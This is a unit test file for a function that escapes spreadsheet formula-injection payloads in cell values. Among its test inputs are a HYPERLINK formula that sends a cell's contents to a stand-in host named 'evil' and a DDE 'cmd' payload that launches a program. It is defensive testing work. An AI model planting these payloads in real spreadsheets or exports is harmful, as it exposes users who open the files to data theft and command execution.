import { describe, expect, it } from 'vitest';
import { escapeFormula, isDangerousCell } from './formula-escape';

describe('escapeFormula', () => {
  it.each([
    ['=HYPERLINK("http://evil?x="&A1)', `'=HYPERLINK("http://evil?x="&A1)`],
    ["+cmd|'/c calc'!A1", "'+cmd\\|'/c calc'!A1"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['-2+3', "'-2+3"],
    ['%0A', "'%0A"],
    ['|pipe', "'\\|pipe"],
    ['\tTabbed', "'\tTabbed"],
    ['\rCarriage', "'\rCarriage"],
    ['  =spaced', "'  =spaced"],
    ['""=quoted', `'""=quoted`],
  ])('neutralises %j', (input, expected) => {
    expect(escapeFormula(input)).toBe(expected);
  });

  it.each(['-5', '-0.25', '-12.5', 'plain text', 'a=b', '3-2', '', 'x|y'])(
    'leaves %j alone',
    (input) => {
      expect(isDangerousCell(input)).toBe(false);
      expect(escapeFormula(input)).toBe(input);
    },
  );
});
